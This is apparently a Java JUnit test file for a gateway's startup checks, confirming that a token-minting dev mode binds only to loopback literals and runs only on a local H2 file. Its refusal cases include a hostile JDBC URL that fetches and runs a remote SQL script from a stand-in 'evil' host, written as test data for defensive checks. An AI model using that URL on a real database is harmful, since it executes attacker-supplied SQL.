package io.trainyard.gateway;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.jsontype.NamedType;
import io.dropwizard.core.server.DefaultServerFactory;
import io.dropwizard.jackson.Jackson;
import io.dropwizard.jetty.HttpConnectorFactory;
import io.dropwizard.request.logging.LogbackAccessRequestLogFactory;
import io.trainyard.gateway.backends.BackendRegistry;
import io.trainyard.gateway.config.AuthConfig;
import io.trainyard.gateway.logging.BatchingRequestLogFactory;
import org.junit.jupiter.api.Test;

/** Dev auth mints tokens for anyone, so where it may run is checked before anything starts. */
class StartupChecksTest {
  private final ObjectMapper mapper = mapper();

  @Test
  void zeroConfigBindsEverythingToLoopbackAndRunsLocally() {
    var config = new TrainyardConfiguration();
    config.markZeroConfig();
    checks(config).applyDefaults();
    checks(config).refuseUnsafeDevMode();
    var server = (DefaultServerFactory) config.getServerFactory();
    assertThat(bindHost(server.getApplicationConnectors().get(0))).isEqualTo("127.0.0.1");
    assertThat(bindHost(server.getAdminConnectors().get(0))).isEqualTo("127.0.0.1");
    assertThat(config.getBackends()).extracting(b -> b.id()).containsExactly("local");
  }

  @Test
  void theAccessLogIsWrittenInBatchesWithItsConfiguredAppenders() {
    var config = new TrainyardConfiguration();
    config.markZeroConfig();
    var server = (DefaultServerFactory) config.getServerFactory();
    var appenders = ((LogbackAccessRequestLogFactory) server.getRequestLogFactory()).getAppenders();
    checks(config).applyDefaults();
    assertThat(server.getRequestLogFactory()).isInstanceOf(BatchingRequestLogFactory.class);
    assertThat(((BatchingRequestLogFactory) server.getRequestLogFactory()).getAppenders())
        .isSameAs(appenders);

    // Another request-log type a configuration names is its own choice.
    var classic = new io.dropwizard.request.logging.old.LogbackClassicRequestLogFactory();
    server.setRequestLogFactory(classic);
    checks(config).applyDefaults();
    assertThat(server.getRequestLogFactory()).isSameAs(classic);
  }

  @Test
  void theAdminPortStaysOnLoopbackUnlessConfiguredOtherwise() {
    var config = oidc("https://sso.example.com/realms/training");
    config.setBackends(new java.util.ArrayList<>(java.util.List.of(local())));
    checks(config).applyDefaults();
    var server = (DefaultServerFactory) config.getServerFactory();
    assertThat(bindHost(server.getAdminConnectors().get(0))).isEqualTo("127.0.0.1");
    assertThat(bindHost(server.getApplicationConnectors().get(0))).isNull();
  }

  @Test
  void devModeRefusesEveryInterface() {
    var config = new TrainyardConfiguration();
    config.getAuth().setMode(AuthConfig.Mode.DEV);
    assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
        .hasMessageContaining("binds only to a loopback address literal")
        .hasMessageContaining("every interface");
    ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
        .setBindHost("0.0.0.0");
    assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode()).hasMessageContaining("0.0.0.0");
  }

  @Test
  void devModeRefusesPostgres() {
    var config = new TrainyardConfiguration();
    config.markZeroConfig();
    config.getDatabase().setUrl("jdbc:postgresql://db:5432/trainyard");
    checks(config).applyDefaults();
    assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
        .hasMessageContaining("refuses to run with PostgreSQL");
  }

  @Test
  void devModeRefusesAnAdminConnectorOffLoopback() {
    var config = devOnLoopback();
    ((HttpConnectorFactory) server(config).getAdminConnectors().get(0)).setBindHost("0.0.0.0");
    assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
        .hasMessageContaining("admin connector bindHost is 0.0.0.0");
  }

  @Test
  void devModeTakesOnlyLoopbackAddressLiteralsNotNames() {
    for (var ok : new String[] {"127.0.0.1", "127.0.0.2", "::1", "[::1]"}) {
      var config = devOnLoopback();
      ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0)).setBindHost(ok);
      checks(config).refuseUnsafeDevMode();
    }
    for (var refused : new String[] {"localhost", "0.0.0.0", "::", "10.0.0.1", "127.evil.com"}) {
      var config = devOnLoopback();
      ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
          .setBindHost(refused);
      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
          .as(refused)
          .hasMessageContaining("application connector bindHost is " + refused);
    }
    var named = devOnLoopback();
    ((HttpConnectorFactory) server(named).getApplicationConnectors().get(0))
        .setBindHost("localhost");
    assertThatThrownBy(() -> checks(named).refuseUnsafeDevMode())
        .hasMessageContaining("a name, which the resolver may map anywhere");
  }

  @Test
  void devModeRefusesEveryKindOfConnectorOffLoopbackWhereverItIsListed() {
    for (var kind :
        new HttpConnectorFactory[] {
          new io.dropwizard.jetty.HttpsConnectorFactory(), new HttpConnectorFactory()
        }) {
      var config = devOnLoopback();
      kind.setBindHost("0.0.0.0");
      var connectors = new java.util.ArrayList<>(server(config).getApplicationConnectors());
      connectors.add(kind); // beside the loopback one
      server(config).setApplicationConnectors(connectors);
      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
          .as(kind.getClass().getSimpleName())
          .hasMessageContaining("application connector bindHost is 0.0.0.0");
    }
  }

  @Test
  void devModeTakesOnlyALocalH2File() {
    for (var ok :
        new String[] {"jdbc:h2:file:/tmp/x/db;DB_CLOSE_ON_EXIT=FALSE", "jdbc:h2:./data/db"}) {
      var config = devOnLoopback();
      config.getDatabase().setUrl(ok);
      checks(config).refuseUnsafeDevMode();
    }
    for (var refused :
        new String[] {
          "jdbc:h2:tcp://db.example.com/trainyard",
          "jdbc:h2:ssl://db.example.com/trainyard",
          "jdbc:h2:mem:trainyard",
          "jdbc:h2:file:/tmp/x/db;AUTO_SERVER=TRUE",
          "jdbc:h2:file:/tmp/x/db;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
          "jdbc:mysql://db/trainyard"
        }) {
      var config = devOnLoopback();
      config.getDatabase().setUrl(refused);
      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
          .as(refused)
          .hasMessageContaining("auth.mode dev refuses database.url")
          .hasMessageNotContaining("RUNSCRIPT");
    }
  }

  @Test
  void anEmptyIssuerIsAnErrorNeverAFallBackToDev() {
    for (var issuer : new String[] {null, "", "  "}) {
      var config = oidc(issuer);
      assertThatThrownBy(() -> checks(config).refuseUnsafeDevMode())
          .hasMessageContaining("auth.issuer is required");
      assertThat(config.getAuth().getMode()).isEqualTo(AuthConfig.Mode.OIDC);
    }
  }

  @Test
  void aConfiguredGatewayNeedsABackend() {
    var config = oidc("https://sso.example.com/realms/training");
    assertThatThrownBy(() -> checks(config).applyDefaults())
        .hasMessageContaining("configure at least one backend");
  }

  /** Dev mode with both connectors on 127.0.0.1: safe until a test changes one thing. */
  private TrainyardConfiguration devOnLoopback() {
    var config = new TrainyardConfiguration();
    config.getAuth().setMode(AuthConfig.Mode.DEV);
    ((HttpConnectorFactory) server(config).getApplicationConnectors().get(0))
        .setBindHost("127.0.0.1");
    checks(config).applyDefaults();
    return config;
  }

  private StartupChecks checks(TrainyardConfiguration config) {
    return new StartupChecks(config, mapper);
  }

  private static TrainyardConfiguration oidc(String issuer) {
    var config = new TrainyardConfiguration();
    config.getAuth().setIssuer(issuer);
    return config;
  }

  private io.trainyard.spi.BackendConfig local() {
    return mapper.convertValue(
        java.util.Map.of("type", "local"), io.trainyard.spi.BackendConfig.class);
  }

  private static DefaultServerFactory server(TrainyardConfiguration config) {
    return (DefaultServerFactory) config.getServerFactory();
  }

  private static String bindHost(io.dropwizard.jetty.ConnectorFactory connector) {
    return ((HttpConnectorFactory) connector).getBindHost();
  }

  private static ObjectMapper mapper() {
    var mapper = Jackson.newObjectMapper();
    for (var f : BackendRegistry.factories().values()) {
      mapper.registerSubtypes(new NamedType(f.configClass(), f.kind()));
    }
    return mapper;
  }
}
